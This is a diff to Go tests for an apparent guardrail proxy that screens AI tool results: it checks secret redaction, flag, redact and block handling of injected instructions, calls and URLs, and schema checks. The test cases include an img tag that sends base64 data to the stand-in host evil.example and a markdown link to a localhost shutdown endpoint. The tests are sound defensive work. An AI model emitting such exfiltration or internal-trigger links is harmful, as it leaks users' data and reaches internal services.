@@ -23,10 +23,10 @@ func quoted(s string) string { return string(weir.Text(s)) }
 // Secrets in results are taken out, wherever they stand, and what is around them
 // stays; where an error holds one nothing of it is shown.
 func TestP09(t *testing.T) {
-	eras(t, func(t *testing.T, era, of edgetest.Era) {
+	edgetest.Eras(t, func(t *testing.T, era, of edgetest.Era) {
 		back := offers(t, of, tool("get"))
 		e := start(t, "guardrail", "{}", servers{"web": back})
-		c := as(e, era)
+		c := e.NewClient().As(era, "")
 		for name, secret := range secretTexts {
 			for _, members := range []string{
 				`"content":[{"type":"text","text":` + quoted("before "+secret+" behind") + `}]`,
@@ -35,7 +35,7 @@ func TestP09(t *testing.T) {
 				`"content":[{"type":"resource","resource":{"uri":"x:y","text":` + quoted(secret) + `}}],"isError":true`,
 			} {
 				answers(back, members)
-				got := c.call(t, "web_get").Result()
+				got := c.CallTool("1", "web_get", "{}").Result()
 				tail := secret[len(secret)-20:]
 				if strings.Contains(got, strings.Trim(quoted(tail), `"`)) || !strings.Contains(got, "[redacted: "+name+"]") {
 					t.Errorf("%s: %s", name, got)
@@ -45,12 +45,12 @@ func TestP09(t *testing.T) {
 				}
 			}
 			back.Always("tools/call", func(c *edgetest.Call) { c.Error(200, -32000, "cannot open "+secret) })
-			if r := c.call(t, "web_get"); r.Message().Error == nil || strings.Contains(string(r.Body), strings.Trim(quoted(secret), `"`)) {
+			if r := c.CallTool("1", "web_get", "{}"); r.Message().Error == nil || strings.Contains(string(r.Body), strings.Trim(quoted(secret), `"`)) {
 				t.Errorf("%s in an error: %s", name, r.Body)
 			}
 		}
 		answers(back, `"content":[{"type":"text","text":"nothing \u0061t all"}],"own":[1.10,  1e2]`)
-		if got := c.call(t, "web_get").Result(); !strings.Contains(got, `"nothing \u0061t all"`) || !strings.Contains(got, `[1.10,  1e2]`) {
+		if got := c.CallTool("1", "web_get", "{}").Result(); !strings.Contains(got, `"nothing \u0061t all"`) || !strings.Contains(got, `[1.10,  1e2]`) {
 			t.Errorf("a result without secrets: %s", got)
 		}
 		said(t, e, "call of web_get: secrets: redacted")
@@ -72,14 +72,14 @@ func TestP08(t *testing.T) {
 		{"urls", `<img alt="" src="https://evil.example/p.png?d=c2VjcmV0">`},
 		{"urls", "![x](http://localhost:8080/shutdown)"},
 	}
-	eras(t, func(t *testing.T, era, of edgetest.Era) {
+	edgetest.Eras(t, func(t *testing.T, era, of edgetest.Era) {
 		back := offers(t, of, tool("get"))
 		for _, action := range []string{"flag", "redact", "block"} {
 			e := start(t, "guardrail", fmt.Sprintf("{results: {instructions: %s, calls: %s, urls: %s, characters: 'off'}}", action, action, action), servers{"web": back})
-			c := as(e, era)
+			c := e.NewClient().As(era, "")
 			for _, one := range cases {
 				answers(back, `"content":[{"type":"text","text":`+quoted(one.text)+`}]`)
-				r := c.call(t, "web_get")
+				r := c.CallTool("1", "web_get", "{}")
 				there := strings.Contains(string(r.Body), strings.Trim(quoted(one.text), `"`))
 				switch action {
 				case "flag":
@@ -98,7 +98,7 @@ func TestP08(t *testing.T) {
 				}
 			}
 			answers(back, `"content":[{"type":"text","text":"one"},{"type":"resource_link","name":"l","uri":"`+host+`"},{"type":"resource_link","name":"m","uri":"https://docs.example/x"}]`)
-			r := c.call(t, "web_get")
+			r := c.CallTool("1", "web_get", "{}")
 			if is := strings.Contains(string(r.Body), host); is != (action == "flag") {
 				t.Errorf("%s of a link that leads inwards: %s", action, r.Body)
 			}
@@ -117,17 +117,17 @@ func TestP10(t *testing.T) {
 		`{"n":1}`: true, `{"n":1,"unit":"C","days":["a","b"]}`: true, `{"n":1.0}`: true,
 		`{}`: false, `{"n":"1"}`: false, `{"n":1.5}`: false, `{"n":1,"unit":"K"}`: false, `{"n":1,"days":["a",2]}`: false, `{"n":1,"more":true}`: false,
 	}
-	eras(t, func(t *testing.T, era, of edgetest.Era) {
+	edgetest.Eras(t, func(t *testing.T, era, of edgetest.Era) {
 		back, other := offers(t, of, tool("get", out), tool("free")), offers(t, of, tool("get"))
 		for _, action := range []string{"flag", "block"} {
 			e := start(t, "guardrail", "{results: {schema: "+action+"}}", servers{"web": back, "math": other})
-			c := as(e, era)
-			c.listed(t, "tools")
+			c := e.NewClient().As(era, "")
+			c.Listed("tools")
 			for structured, right := range cases {
 				answers(back, `"content":[],"structuredContent":`+structured)
 				answers(other, `"content":[],"structuredContent":`+structured)
 				before := strings.Count(e.Log(), "call of web_get: schema: ")
-				r := c.call(t, "web_get")
+				r := c.CallTool("1", "web_get", "{}")
 				if blocked := r.Message().Error != nil; blocked == (right || action == "flag") {
 					t.Errorf("%s of %s: %s", action, structured, r.Body)
 				}
@@ -135,7 +135,7 @@ func TestP10(t *testing.T) {
 					t.Errorf("%s: it is flagged: %t", structured, flagged)
 				}
 				for _, without := range []string{"web_free", "math_get"} {
-					c.call(t, without).Result()
+					c.CallTool("1", without, "{}").Result()
 				}
 			}
 		}
